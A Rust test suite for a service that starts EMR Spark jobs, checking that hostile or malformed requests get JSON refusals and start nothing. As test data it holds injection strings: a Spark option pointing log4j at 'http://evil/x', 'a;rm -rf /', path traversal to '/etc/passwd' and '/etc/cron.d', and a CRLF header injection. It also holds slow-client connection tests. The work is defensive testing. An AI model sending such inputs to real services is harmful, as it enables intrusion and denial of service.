//! Hostile and malformed requests, as tables: each gets a 4xx answer with a JSON error
//! body, and none of them starts an EMR job. What must be accepted (odd but valid
//! argument values) is accepted and lands only in the job's entry-point arguments.

use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::common;
use crate::common::{multiomix_body, spawn_app, TestApp};

/// A body with one thing changed: Multiomix's request with `f` applied.
fn with(f: impl FnOnce(&mut Value)) -> Value {
    let mut body = multiomix_body();
    f(&mut body);
    body
}

fn named(name: Value) -> Value {
    with(|b| b["name"] = name)
}

fn algorithm(value: Value) -> Value {
    with(|b| b["algorithm"] = value)
}

fn arguments(args: Value) -> Value {
    with(|b| b["entrypoint_arguments"] = args)
}

/// Multiomix's arguments plus one more.
fn extra_argument(arg: Value) -> Value {
    with(|b| b["entrypoint_arguments"].as_array_mut().unwrap().push(arg))
}

fn app_name(value: Value) -> Value {
    with(|b| b["entrypoint_arguments"][0]["value"] = value)
}

fn nested_array(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

/// Checks one refusal: the status, a JSON content type, and the error code.
async fn assert_refused(r: reqwest::Response, status: u16, error: &str, what: &str) {
    assert_eq!(r.status().as_u16(), status, "{what}");
    assert_eq!(
        r.headers().get("content-type").map(|v| v.to_str().unwrap()),
        Some("application/json"),
        "{what}"
    );
    let body: Value = r
        .json()
        .await
        .unwrap_or_else(|e| panic!("{what}: not JSON: {e}"));
    assert_eq!(body["error"], error, "{what}: {body}");
    assert!(
        body["message"].as_str().is_some_and(|m| !m.is_empty()),
        "{what}: {body}"
    );
}

#[tokio::test]
async fn hostile_job_bodies_are_refused_with_a_json_400_and_start_nothing() {
    let app = spawn_app().await;
    let long = |n: usize| "x".repeat(n);
    let cases: Vec<(&str, Value)> = vec![
        // The name goes into the spark-submit parameters: nothing but EMR's alphabet.
        (
            "option injection through the name",
            named(json!(
                "x --conf spark.driver.extraJavaOptions=-Dlog4j.configuration=http://evil/x"
            )),
        ),
        (
            "option injection without spaces",
            named(json!("x\t--conf\tspark.driver.extraJavaOptions=-Dx")),
        ),
        ("conf injection with an equals sign", named(json!("a=b"))),
        ("a space in the name", named(json!("Breast Cancer"))),
        ("a leading space", named(json!(" BreastCancer"))),
        ("a newline in the name", named(json!("Breast\nCancer"))),
        ("a carriage return", named(json!("Breast\rCancer"))),
        ("a tab in the name", named(json!("Breast\tCancer"))),
        ("a NUL in the name", named(json!("Breast\u{0}Cancer"))),
        ("a non-ASCII letter", named(json!("Cáncer"))),
        ("an emoji", named(json!("cancer🧬"))),
        ("a right-to-left override", named(json!("abc\u{202e}txt"))),
        ("a zero-width space", named(json!("abc\u{200b}def"))),
        ("a fullwidth letter", named(json!("ａbc"))),
        ("shell characters", named(json!("a;rm -rf /"))),
        ("quotes", named(json!("a\"b"))),
        ("an empty name", named(json!(""))),
        ("a 65-character name", named(json!(long(65)))),
        ("a 40 KiB name", named(json!(long(40 * 1024)))),
        // Wrong types at the top.
        ("a number as the name", named(json!(42))),
        ("a boolean as the name", named(json!(true))),
        ("a list as the name", named(json!(["a"]))),
        ("an object as the name", named(json!({"a": 1}))),
        ("a string as the algorithm", algorithm(json!("1"))),
        ("a fraction as the algorithm", algorithm(json!(1.5))),
        ("a negative algorithm", algorithm(json!(-1))),
        ("an unknown algorithm", algorithm(json!(2))),
        ("a huge algorithm", algorithm(json!(1e300))),
        ("a boolean as the algorithm", algorithm(json!(true))),
        ("a list as the algorithm", algorithm(json!([1]))),
        (
            "no arguments at all",
            with(|b| {
                b.as_object_mut().unwrap().remove("entrypoint_arguments");
            }),
        ),
        ("null arguments", arguments(Value::Null)),
        ("an empty argument list", arguments(json!([]))),
        ("a string as the arguments", arguments(json!("app-name=x"))),
        (
            "an object as the arguments",
            arguments(json!({"app-name": "x"})),
        ),
        ("a number as the arguments", arguments(json!(1))),
        ("a string as an argument", extra_argument(json!("--conf"))),
        ("null as an argument", extra_argument(Value::Null)),
        ("a list as an argument", extra_argument(json!(["n", "v"]))),
        // Argument names become `--name` on the job's command line.
        (
            "an argument without a name",
            extra_argument(json!({"value": "1"})),
        ),
        (
            "an argument without a value",
            extra_argument(json!({"name": "x"})),
        ),
        (
            "a null argument name",
            extra_argument(json!({"name": null, "value": "1"})),
        ),
        (
            "a number as an argument name",
            extra_argument(json!({"name": 1, "value": "1"})),
        ),
        (
            "a list as an argument name",
            extra_argument(json!({"name": ["a"], "value": "1"})),
        ),
        (
            "an empty argument name",
            extra_argument(json!({"name": "", "value": "1"})),
        ),
        (
            "an argument name starting with -",
            extra_argument(json!({"name": "-x", "value": "1"})),
        ),
        (
            "an argument name that is an option",
            extra_argument(json!({"name": "--conf", "value": "spark.x=y"})),
        ),
        (
            "a space in an argument name",
            extra_argument(json!({"name": "a b", "value": "1"})),
        ),
        (
            "a newline in an argument name",
            extra_argument(json!({"name": "a\nb", "value": "1"})),
        ),
        (
            "an equals sign in an argument name",
            extra_argument(json!({"name": "conf=x", "value": "1"})),
        ),
        (
            "a non-ASCII argument name",
            extra_argument(json!({"name": "ñ", "value": "1"})),
        ),
        (
            "a 129-character argument name",
            extra_argument(json!({"name": long(129), "value": "1"})),
        ),
        (
            "a repeated argument name",
            extra_argument(json!({"name": "n-stars", "value": 3})),
        ),
        (
            "too many arguments",
            with(|b| {
                let args = b["entrypoint_arguments"].as_array_mut().unwrap();
                args.extend((0..100).map(|i| json!({"name": format!("a{i}"), "value": i})));
            }),
        ),
        // Values: text, numbers or booleans, no control characters, EMR's length limit.
        (
            "a null value",
            extra_argument(json!({"name": "x", "value": null})),
        ),
        (
            "a list value",
            extra_argument(json!({"name": "x", "value": [1, 2]})),
        ),
        (
            "a nested list value",
            extra_argument(json!({"name": "x", "value": [[["deep"]]]})),
        ),
        (
            "an object value",
            extra_argument(json!({"name": "x", "value": {"a": 1}})),
        ),
        (
            "a newline in a value",
            extra_argument(json!({"name": "x", "value": "a\nb"})),
        ),
        (
            "a NUL in a value",
            extra_argument(json!({"name": "x", "value": "a\u{0}b"})),
        ),
        (
            "an escape sequence in a value",
            extra_argument(json!({"name": "x", "value": "\u{1b}[2J"})),
        ),
        (
            "a C1 control in a value",
            extra_argument(json!({"name": "x", "value": "a\u{85}b"})),
        ),
        (
            "a value one past EMR's limit",
            extra_argument(json!({"name": "x", "value": long(10_281)})),
        ),
        // app-name names a folder under the results path.
        ("a null app-name", app_name(Value::Null)),
        ("an empty app-name", app_name(json!(""))),
        ("a blank app-name", app_name(json!("   "))),
        ("an absolute app-name", app_name(json!("/etc"))),
        ("a parent app-name", app_name(json!(".."))),
        ("a traversing app-name", app_name(json!("../../etc/cron.d"))),
        (
            "a traversing app-name in the middle",
            app_name(json!("exp/../../x")),
        ),
        (
            "a backslash-traversing app-name",
            app_name(json!("..\\..\\x")),
        ),
        (
            "no app-name",
            with(|b| {
                b["entrypoint_arguments"].as_array_mut().unwrap().remove(0);
            }),
        ),
        // Not an object at all.
        ("null", Value::Null),
        ("a list", json!([multiomix_body()])),
        ("a string", json!("BreastCancerBBHA")),
        ("a number", json!(1)),
        ("true", json!(true)),
        ("an empty object", json!({})),
    ];
    for (what, body) in &cases {
        let r = app.post_job(body).await;
        assert_refused(r, 400, "invalid_request", what).await;
    }
    assert_eq!(app.emr().calls("StartJobRun"), 0);
}

#[tokio::test]
async fn bodies_that_are_not_json_are_refused_and_start_nothing() {
    let app = spawn_app().await;
    let json = "application/json";
    let deep = format!(
        r#"{{"name": "a", "entrypoint_arguments": {}}}"#,
        nested_array(5_000)
    );
    let deep_objects = format!("{}{}", r#"{"a":"#.repeat(1_000), "}".repeat(1_000));
    // (what, content type, body, status, error code)
    type Case<'a> = (&'a str, Option<&'a str>, Vec<u8>, u16, &'a str);
    let cases: Vec<Case> = vec![
        (
            "broken JSON",
            Some(json),
            b"{not json".to_vec(),
            400,
            "invalid_request",
        ),
        (
            "an empty body",
            Some(json),
            Vec::new(),
            400,
            "invalid_request",
        ),
        (
            "a truncated object",
            Some(json),
            br#"{"name": "a","#.to_vec(),
            400,
            "invalid_request",
        ),
        (
            "trailing garbage",
            Some(json),
            br#"{"name": "a"} x"#.to_vec(),
            400,
            "invalid_request",
        ),
        (
            "two objects",
            Some(json),
            b"{}{}".to_vec(),
            400,
            "invalid_request",
        ),
        (
            "NaN",
            Some(json),
            br#"{"algorithm": NaN}"#.to_vec(),
            400,
            "invalid_request",
        ),
        (
            "a number too large for JSON",
            Some(json),
            br#"{"algorithm": 1e400}"#.to_vec(),
            400,
            "invalid_request",
        ),
        (
            "single quotes",
            Some(json),
            b"{'name': 'a'}".to_vec(),
            400,
            "invalid_request",
        ),
        (
            "a comment",
            Some(json),
            b"{/* x */}".to_vec(),
            400,
            "invalid_request",
        ),
        (
            "invalid UTF-8",
            Some(json),
            b"{\"name\": \"\xff\xfe\"}".to_vec(),
            400,
            "invalid_request",
        ),
        (
            "a lone surrogate",
            Some(json),
            br#"{"name": "\ud800"}"#.to_vec(),
            400,
            "invalid_request",
        ),
        (
            "deeply nested lists",
            Some(json),
            deep.into_bytes(),
            400,
            "invalid_request",
        ),
        (
            "deeply nested objects",
            Some(json),
            deep_objects.into_bytes(),
            400,
            "invalid_request",
        ),
        (
            "form encoding",
            Some("application/x-www-form-urlencoded"),
            b"name=a".to_vec(),
            415,
            "unsupported_media_type",
        ),
        (
            "plain text",
            Some("text/plain"),
            serde_json::to_vec(&multiomix_body()).unwrap(),
            415,
            "unsupported_media_type",
        ),
        (
            "multipart",
            Some("multipart/form-data; boundary=x"),
            b"--x--".to_vec(),
            415,
            "unsupported_media_type",
        ),
        (
            "XML",
            Some("application/xml"),
            b"<job/>".to_vec(),
            415,
            "unsupported_media_type",
        ),
        (
            "no content type",
            None,
            serde_json::to_vec(&multiomix_body()).unwrap(),
            415,
            "unsupported_media_type",
        ),
        (
            "a content type that is not a media type",
            Some("json"),
            b"{}".to_vec(),
            415,
            "unsupported_media_type",
        ),
        (
            "a body over 64 KiB",
            Some(json),
            vec![b' '; 64 * 1024 + 1],
            413,
            "payload_too_large",
        ),
        (
            "a 2 MiB body",
            Some(json),
            {
                let mut body = multiomix_body();
                body["padding"] = json!("x".repeat(2 << 20));
                serde_json::to_vec(&body).unwrap()
            },
            413,
            "payload_too_large",
        ),
    ];
    for (what, content_type, body, status, error) in cases {
        let mut request = app.http.post(app.url("/job")).body(body);
        if let Some(ct) = content_type {
            request = request.header("content-type", ct);
        }
        let r = request.send().await.unwrap();
        assert_refused(r, status, error, what).await;
    }
    // A body sent in chunks, with no Content-Length to refuse it by, is cut off at the
    // limit just the same.
    let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, " ".repeat(64 * 1024));
    let mut request = b"POST /job HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
        Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
        .to_vec();
    for _ in 0..5 {
        request.extend_from_slice(chunk.as_bytes());
    }
    request.extend_from_slice(b"0\r\n\r\n");
    let (status, content_type, body) = raw_request(&app, &request).await;
    assert_eq!(status, 413, "{body}");
    assert_eq!(content_type, "application/json");
    assert_eq!(body["error"], "payload_too_large");

    assert_eq!(app.emr().calls("StartJobRun"), 0);
}

#[tokio::test]
async fn bad_idempotency_keys_are_refused_before_anything_starts() {
    let app = spawn_app().await;
    for (what, key) in [
        ("an empty key", String::new()),
        ("a key with a space", "a b".to_string()),
        ("a 256-character key", "k".repeat(256)),
        ("a key with a tab", "a\tb".to_string()),
    ] {
        let r = app
            .http
            .post(app.url("/job"))
            .header("idempotency-key", key)
            .json(&multiomix_body())
            .send()
            .await
            .unwrap();
        assert_refused(r, 400, "invalid_request", what).await;
    }
    assert_eq!(app.emr().calls("StartJobRun"), 0);
}

#[tokio::test]
async fn odd_job_ids_are_refused_before_they_reach_emr() {
    let app = spawn_app().await;
    let ids = [
        "ABC",
        "a.b",
        "a-b",
        "a_b",
        "%2e%2e",
        "..%2F..%2Fetc%2Fpasswd",
        "a%2Fb",
        "%2F",
        "a%5Cb",
        "a%00b",
        "%00",
        "a%0Ab",
        "a%0D%0AX-Injected:%201",
        "a%20b",
        "a%09b",
        "%C3%B1",
        "%F0%9F%A7%AC",
        "%EF%BC%A1",
        "%FF",
        "%C0%AE%C0%AE",
        "a%3Bb",
        "a%3Fb",
        "a%23b",
        "-1",
        "+1",
        "1e5.0",
        "%2500",
        "a'b",
        "a\"b",
        "%7Bid%7D",
    ];
    let sixty_five = "a".repeat(65);
    let ids = ids.iter().copied().chain([sixty_five.as_str()]);
    for id in ids {
        for method in ["GET", "DELETE", "PATCH"] {
            // Sent as raw bytes: an HTTP client would normalise some of these paths
            // (`%2e%2e`) before they reach the service.
            let body = r#"{"state":"Terminated"}"#;
            let request = format!(
                "{method} /job/{id} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
                 Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
            let (status, content_type, answer) = raw_request(&app, request.as_bytes()).await;
            let what = format!("{method} /job/{id}");
            assert_eq!(status, 400, "{what}: {answer}");
            assert_eq!(content_type, "application/json", "{what}");
            assert_eq!(answer["error"], "invalid_request", "{what}: {answer}");
        }
    }
    // Paths the router does not take at all still answer JSON.
    for (what, path, status, error) in [
        ("no id", "/job/", 404, "not_found"),
        (
            "a traversal the client left alone",
            "/job/../../etc/passwd",
            404,
            "not_found",
        ),
        ("two segments", "/job/abc/def", 404, "not_found"),
        ("a double slash", "/job//abc", 404, "not_found"),
    ] {
        let request = format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        let (status_seen, content_type, body) = raw_request(&app, request.as_bytes()).await;
        assert_eq!(status_seen, status, "{what}: {body}");
        assert_eq!(content_type, "application/json", "{what}");
        assert_eq!(body["error"], error, "{what}");
    }
    let r = app.http.put(app.url("/job/abc")).send().await.unwrap();
    assert_refused(r, 405, "method_not_allowed", "PUT /job/{id}").await;

    for op in ["DescribeJobRun", "CancelJobRun", "StartJobRun"] {
        assert_eq!(app.emr().calls(op), 0, "{op}");
    }
    assert_eq!(
        app.store.open_notice_count().await.unwrap(),
        0,
        "no refused callback opened a notice"
    );
}

#[tokio::test]
async fn a_huge_callback_body_is_refused_with_a_json_413() {
    let app = spawn_app().await;
    let r = app
        .http
        .patch(app.url("/job/000000031kd8aj0vtn3"))
        .header("content-type", "application/json")
        .body(format!(r#"{{"state": "{}"}}"#, "x".repeat(300 * 1024)))
        .send()
        .await
        .unwrap();
    assert_refused(r, 413, "payload_too_large", "PATCH with 300 KiB").await;
    assert!(app
        .store
        .notice(&multiomix_aws_emr::job::JobId::parse("000000031kd8aj0vtn3").unwrap())
        .await
        .unwrap()
        .is_none());
}

#[tokio::test]
async fn odd_query_strings_on_the_job_list_are_refused() {
    let app = spawn_app().await;
    let long_token = "t".repeat(1025);
    let cases: Vec<(&str, String)> = vec![
        ("an unknown state", "state=DONE".into()),
        ("an injected state", "state=RUNNING%3BDROP".into()),
        ("a state with a NUL", "state=RUNNING%00".into()),
        ("a state that is not UTF-8", "state=%FF".into()),
        ("one bad state among good ones", "state=RUNNING,NOPE".into()),
        ("a zero page size", "page_size=0".into()),
        ("a page size over EMR's maximum", "page_size=51".into()),
        ("a negative page size", "page_size=-1".into()),
        ("a page size that is not a number", "page_size=ten".into()),
        ("a page size in exponent form", "page_size=1e1".into()),
        ("a page size beyond u32", "page_size=99999999999".into()),
        ("an empty page size", "page_size=".into()),
        (
            "a bad page size after a good one",
            "page_size=5&page_size=x".into(),
        ),
        (
            "an over-long continuation token",
            format!("next_token={long_token}"),
        ),
        ("an unknown parameter", "limit=5".into()),
        ("an empty parameter name", "=x".into()),
        ("an encoded parameter name", "st%61te%00=RUNNING".into()),
        ("a parameter that only looks known", "State=RUNNING".into()),
        ("array syntax", "state[]=RUNNING".into()),
    ];
    for (what, query) in &cases {
        let r = app
            .http
            .get(app.url(&format!("/jobs?{query}")))
            .send()
            .await
            .unwrap();
        assert_refused(r, 400, "invalid_request", what).await;
    }
    // A continuation token EMR does not know is the caller's mistake, not a bad gateway.
    let r = app
        .http
        .get(app.url("/jobs?next_token=not-a-token"))
        .send()
        .await
        .unwrap();
    assert_refused(r, 400, "invalid_request", "a made-up continuation token").await;
    assert_eq!(app.emr().calls("StartJobRun"), 0);
}

#[tokio::test]
async fn option_text_in_an_argument_value_stays_an_entry_point_argument() {
    let app = spawn_app().await;
    let sneaky = "x --conf spark.driver.extraJavaOptions=-Dpwn=1";
    let body = with(|b| {
        let args = b["entrypoint_arguments"].as_array_mut().unwrap();
        args.push(json!({"name": "molecules-dataset2", "value": sneaky}));
        args.push(json!({"name": "flag", "value": " --conf x=y"}));
        args.push(json!({"name": "unicode", "value": "Cáncer 🧬"}));
    });
    let r = app.post_job(&body).await;
    assert_eq!(r.status(), 201);
    let requests = app.emr().start_requests();
    assert_eq!(requests.len(), 1);
    let driver = &requests[0]["jobDriver"]["sparkSubmitJobDriver"];
    let arguments: Vec<&str> = driver["entryPointArguments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    assert_eq!(
        &arguments[arguments.len() - 6..],
        [
            "--molecules-dataset2",
            sneaky,
            "--flag",
            " --conf x=y",
            "--unicode",
            "Cáncer 🧬"
        ]
    );
    let parameters = driver["sparkSubmitParameters"].as_str().unwrap();
    assert!(!parameters.contains("extraJavaOptions"), "{parameters}");
    assert!(!parameters.contains("x=y"), "{parameters}");
    assert!(!parameters.contains("pwn"), "{parameters}");
    // Exactly the contract's options, one --py-files and eleven --conf, then the job's
    // progress token: no more.
    let words: Vec<&str> = parameters.split(' ').collect();
    assert_eq!(words.len(), 26, "{parameters}");
    assert_eq!(words.iter().filter(|w| **w == "--py-files").count(), 1);
    assert_eq!(words.iter().filter(|w| **w == "--conf").count(), 12);
    assert_eq!(
        words[words.len() - 3],
        "spark.kubernetes.driverEnv.JOB_NAME=BreastCancerBBHA"
    );
    let token = words[words.len() - 1]
        .strip_prefix("spark.kubernetes.driverEnv.PROGRESS_TOKEN=")
        .unwrap_or_else(|| panic!("{parameters}"));
    assert_eq!(token.len(), 64, "{parameters}");
    assert!(token.bytes().all(|b| b.is_ascii_hexdigit()), "{parameters}");
}

#[tokio::test]
async fn names_with_every_allowed_character_are_accepted() {
    let app = spawn_app().await;
    let name = "Exp-42_run.v1/#2";
    let r = app.post_job(&named(json!(name))).await;
    assert_eq!(r.status(), 201);
    let mut other = common::another_experiment();
    other["name"] = json!("n".repeat(64));
    let r = app.post_job(&other).await;
    assert_eq!(r.status(), 201);
    let requests = app.emr().start_requests();
    assert_eq!(requests[0]["name"], name);
    let parameters = requests[0]["jobDriver"]["sparkSubmitJobDriver"]["sparkSubmitParameters"]
        .as_str()
        .unwrap();
    // The name is the contract's last option, before the job's progress token.
    assert!(
        parameters.contains(&format!(
            " --conf spark.kubernetes.driverEnv.JOB_NAME={name} \
             --conf spark.kubernetes.driverEnv.PROGRESS_TOKEN="
        )),
        "{parameters}"
    );
}

/// Sends raw bytes (what a well-behaved client would not send) and reads the answer.
async fn raw_request(app: &TestApp, request: &[u8]) -> (u16, String, Value) {
    let mut stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    // The server may answer and close before the whole body is written.
    let _ = stream.write_all(request).await;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    let text = String::from_utf8_lossy(&answer).into_owned();
    let (head, body) = text
        .split_once("\r\n\r\n")
        .unwrap_or_else(|| panic!("no HTTP answer: {text:?}"));
    let status: u16 = head
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no status in {head:?}"));
    let header = |name: &str| {
        head.lines()
            .filter_map(|l| l.split_once(':'))
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.trim().to_owned())
    };
    let body = if header("transfer-encoding").is_some_and(|v| v.eq_ignore_ascii_case("chunked")) {
        dechunk(body)
    } else {
        body.to_owned()
    };
    let json = serde_json::from_str(&body).unwrap_or(Value::String(body));
    (status, header("content-type").unwrap_or_default(), json)
}

fn dechunk(mut body: &str) -> String {
    let mut out = String::new();
    while let Some((size, rest)) = body.split_once("\r\n") {
        let size = usize::from_str_radix(size.trim(), 16).unwrap_or(0);
        if size == 0 {
            break;
        }
        out.push_str(&rest[..size]);
        body = &rest[size + 2..];
    }
    out
}

#[tokio::test]
async fn requests_beyond_the_concurrency_limit_are_shed_with_503_and_retry_after() {
    // The limit is one for the whole service, not one per route: the slow request is a
    // read, the refused one a start.
    let app = common::spawn_app_with(&[("MAX_CONCURRENT_REQUESTS", "1")]).await;
    // The read is held at the fake EMR for as long as this test needs, not for a time.
    let hold = app.emr().hold("DescribeJobRun");
    let slow = {
        let http = app.http.clone();
        let url = app.url("/job/000000031kd8aj0vtn3");
        tokio::spawn(async move { http.get(url).send().await.unwrap().status() })
    };
    app.emr()
        .wait_for_calls("DescribeJobRun", 1, std::time::Duration::from_secs(10))
        .await
        .unwrap();
    // The one slot is taken: the next request is answered while it still is, so it was
    // not queued behind it.
    let r = tokio::time::timeout(
        std::time::Duration::from_secs(10),
        app.post_job(&multiomix_body()),
    )
    .await
    .expect("a request over the limit is answered while the slot is taken, not queued");
    assert_eq!(
        r.headers().get("retry-after").map(|v| v.to_str().unwrap()),
        Some("1")
    );
    assert_refused(r, 503, "unavailable", "a request over the limit").await;
    assert_eq!(app.emr().calls("StartJobRun"), 0);
    // Liveness is not shed: a busy service is not a dead one.
    let r = app.http.get(app.url("/health")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let r = app.http.get(app.url("/ready")).send().await.unwrap();
    assert_eq!(r.status(), 503);
    assert!(
        !slow.is_finished(),
        "the held request was still in flight throughout"
    );

    hold.release();
    assert_eq!(slow.await.unwrap(), 404, "the request in flight finishes");
    let r = app.http.get(app.url("/ready")).send().await.unwrap();
    assert_eq!(r.status(), 200, "the slot is free again");
}

#[tokio::test]
async fn a_request_that_takes_too_long_is_cut_off_with_a_json_503() {
    let app = common::spawn_app_with(&[("REQUEST_TIMEOUT", "0.3")]).await;
    // EMR never answers while the hold lasts: only the request timeout can end the request.
    let _hold = app.emr().hold("DescribeJobRun");
    let r = tokio::time::timeout(
        std::time::Duration::from_secs(30),
        app.get_job("000000031kd8aj0vtn3"),
    )
    .await
    .expect("the request timeout answers while EMR does not");
    assert_refused(r, 503, "timeout", "a slow EMR").await;
}

/// Reads until the server closes the connection; what it sent, or `None` if it was still
/// open after `patience`.
async fn read_until_closed(
    stream: &mut tokio::net::TcpStream,
    patience: std::time::Duration,
) -> Option<Vec<u8>> {
    use tokio::io::AsyncReadExt;
    let mut seen = Vec::new();
    let read_all = async {
        let mut buf = [0u8; 4096];
        loop {
            match stream.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => seen.extend_from_slice(&buf[..n]),
            }
        }
    };
    tokio::time::timeout(patience, read_all).await.ok()?;
    Some(seen)
}

#[tokio::test]
async fn a_client_that_never_finishes_its_headers_is_disconnected() {
    use tokio::io::AsyncWriteExt;
    let app = common::spawn_app_with(&[("HEADER_READ_TIMEOUT", "0.3")]).await;
    let mut stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    stream
        .write_all(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        .await
        .unwrap();
    let started = std::time::Instant::now();
    let answer = read_until_closed(&mut stream, std::time::Duration::from_secs(5)).await;
    assert!(
        answer.is_some(),
        "the half-sent request held its connection open"
    );
    assert!(started.elapsed() >= std::time::Duration::from_millis(250));
}

#[tokio::test]
async fn an_idle_keep_alive_connection_is_closed() {
    use tokio::io::AsyncWriteExt;
    let app = common::spawn_app_with(&[("HEADER_READ_TIMEOUT", "0.3")]).await;
    let mut stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    stream
        .write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let answer = read_until_closed(&mut stream, std::time::Duration::from_secs(5))
        .await
        .expect("the idle connection was closed");
    let text = String::from_utf8_lossy(&answer);
    assert!(text.starts_with("HTTP/1.1 200"), "{text}");
}

#[tokio::test]
async fn connections_beyond_the_cap_are_closed_at_once() {
    use tokio::io::AsyncWriteExt;
    let app =
        common::spawn_app_with(&[("MAX_CONNECTIONS", "2"), ("HEADER_READ_TIMEOUT", "30")]).await;
    let first = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let _second = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    // Both are held (accepted, waiting for headers); a third is closed without an answer.
    let mut third = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let _ = third
        .write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
        .await;
    let answer = read_until_closed(&mut third, std::time::Duration::from_secs(5))
        .await
        .expect("the third connection was closed");
    assert!(answer.is_empty(), "{}", String::from_utf8_lossy(&answer));
    // A slot frees when a connection ends.
    drop(first);
    common::wait_for(
        "a slot to free",
        std::time::Duration::from_secs(5),
        || async {
            let mut again = tokio::net::TcpStream::connect(app.addr).await.unwrap();
            let _ = again
                .write_all(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                .await;
            let answer = read_until_closed(&mut again, std::time::Duration::from_secs(5))
                .await
                .unwrap_or_default();
            let answer = String::from_utf8_lossy(&answer).into_owned();
            if answer.starts_with("HTTP/1.1 200") {
                Ok(())
            } else {
                Err(answer)
            }
        },
    )
    .await;
}

/// Sends `head` and then the body one byte every 100 ms from another task, until the
/// server answers or closes; returns what it answered and when.
async fn trickle(app: &TestApp, head: String, body: Vec<u8>) -> (String, std::time::Duration) {
    use tokio::io::AsyncWriteExt;
    let stream = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let (mut read, mut write) = stream.into_split();
    let started = std::time::Instant::now();
    write.write_all(head.as_bytes()).await.unwrap();
    let writer = tokio::spawn(async move {
        for byte in body {
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            if write.write_all(&[byte]).await.is_err() {
                break;
            }
        }
        write
    });
    let mut seen = Vec::new();
    let mut buf = [0u8; 4096];
    let _ = tokio::time::timeout(std::time::Duration::from_secs(20), async {
        use tokio::io::AsyncReadExt;
        loop {
            match read.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    seen.extend_from_slice(&buf[..n]);
                    if String::from_utf8_lossy(&seen).contains("}") {
                        break;
                    }
                }
            }
        }
    })
    .await;
    let elapsed = started.elapsed();
    writer.abort();
    (String::from_utf8_lossy(&seen).into_owned(), elapsed)
}

/// A body sent a byte at a time holds a request slot for as long as the client likes,
/// unless its time is bounded: `BODY_READ_TIMEOUT` ends it with a JSON 408, long before
/// `REQUEST_TIMEOUT`, on both routes that read a body.
#[tokio::test]
async fn a_body_trickled_over_tcp_is_answered_408_once_its_time_is_up() {
    let app = common::spawn_app_with(&[
        ("BODY_READ_TIMEOUT", "0.5"),
        ("REQUEST_TIMEOUT", "15"),
        ("HEADER_READ_TIMEOUT", "15"),
    ])
    .await;
    let body = serde_json::to_vec(&common::multiomix_body()).unwrap();
    let id = common::submit_job(&app.http, &app.base, &common::multiomix_body()).await;
    for (what, request_line) in [
        ("POST /job", "POST /job".to_owned()),
        ("PATCH /job/{id}", format!("PATCH /job/{id}")),
    ] {
        let head = format!(
            "{request_line} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\n\r\n",
            body.len()
        );
        let (answer, elapsed) = trickle(&app, head, body.clone()).await;
        assert!(answer.starts_with("HTTP/1.1 408"), "{what}: {answer}");
        assert!(
            answer.contains(r#""error":"body_timeout""#),
            "{what}: {answer}"
        );
        assert!(
            elapsed < std::time::Duration::from_secs(5),
            "{what}: answered after {elapsed:?}"
        );
    }
    // The same request sent at once is served (for another experiment: the first one's
    // app-name is still open).
    assert_eq!(
        app.http
            .post(app.url("/job"))
            .json(&common::multiomix_body_for("exp-43-app"))
            .send()
            .await
            .unwrap()
            .status(),
        201
    );
}
